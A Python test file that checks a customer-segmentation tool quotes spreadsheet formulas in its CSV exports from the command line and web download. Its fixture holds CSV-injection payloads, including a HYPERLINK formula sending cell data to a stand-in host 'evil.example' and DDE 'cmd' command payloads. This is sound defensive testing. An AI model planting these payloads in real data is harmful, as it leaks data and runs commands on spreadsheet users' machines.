"""Every CSV segmint writes is safe to open in a spreadsheet, on both stores: customer
ids that are formulas (``=HYPERLINK(...)``, ``+cmd``, ``@SUM``) come out
behind a single quote in ``match --format csv``, ``segments members --format csv``,
``codes generate`` and the promotion page's ``codes.csv``; a plain negative number
stays a number (segmint/csv_safe.py)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

import web_session
from segmint.cli.main import _register, cli
from segmint.model.segment import SegmentDefinition, SegmentKind
from segmint.services import auth, levers, segments
from segmint.services.customers import ingest
from segmint.store.base import Store

NOW = dt.datetime(2026, 12, 1, tzinfo=dt.UTC)

#: customer id -> the cell a spreadsheet must receive (written by hand, not computed)
IDS = {
    '=HYPERLINK("http://evil.example/?q="&A1,"click")': (
        '\'=HYPERLINK("http://evil.example/?q="&A1,"click")'
    ),
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@x": "'@x",
    "-5": "-5",  # a plain number: a spreadsheet reads the number, nothing else
    "c-1": "c-1",
}


@pytest.fixture()
def shop(store: Store) -> Store:
    ingest(store, "customers", [{"id": cid} for cid in IDS], NOW)
    definition = SegmentDefinition(code="all", name="All", kind=SegmentKind.MANUAL)
    segments.create_segment(store, definition, NOW)
    segments.add_members(store, "all", list(IDS), NOW)
    document = {
        "promotions": [
            {"code": "summer", "trigger": "code", "benefit": {"type": "order", "percentage": "5"}}
        ]
    }
    levers.apply_document(store, document, NOW, who="test")
    return store


def cells(text: str, column: str) -> list[str]:
    return sorted(row[column] for row in csv.DictReader(io.StringIO(text)))


def cli_output(*args: str) -> str:
    _register()
    result = CliRunner().invoke(cli, list(args))
    assert result.exit_code == 0, result.output
    return result.output


def test_cli_listings_quote_formulas(shop: Store, store_url: str) -> None:
    out = cli_output("--db", store_url, "match", "orders_count = 0", "--format", "csv")
    assert cells(out, "customer_id") == sorted(IDS.values())
    out = cli_output("--db", store_url, "segments", "members", "all", "--format", "csv")
    assert cells(out.split("\nnext cursor")[0], "customer_id") == sorted(IDS.values())


def test_generated_codes_quote_formulas(shop: Store, store_url: str) -> None:
    out = cli_output("--db", store_url, "codes", "generate", "summer", "--segment", "all")
    assert cells(out, "customer_id") == sorted(IDS.values())
    assert {row["uses"] for row in csv.DictReader(io.StringIO(out))} == {"1"}


def test_the_codes_download_quotes_formulas(shop: Store, store_url: str) -> None:
    from segmint.api.app import create_app
    from segmint.services import codes

    codes.generate_codes(shop, "summer", NOW, segment="all")
    auth.create_user(shop, "ada", web_session.PASSWORD, NOW)
    with TestClient(create_app(store_url), follow_redirects=False) as client:
        web_session.log_in(client, "ada", page="/promotions")
        download = client.get("/promotions/summer/codes.csv")
    assert download.status_code == 200
    assert cells(download.text, "customer_id") == sorted(IDS.values())
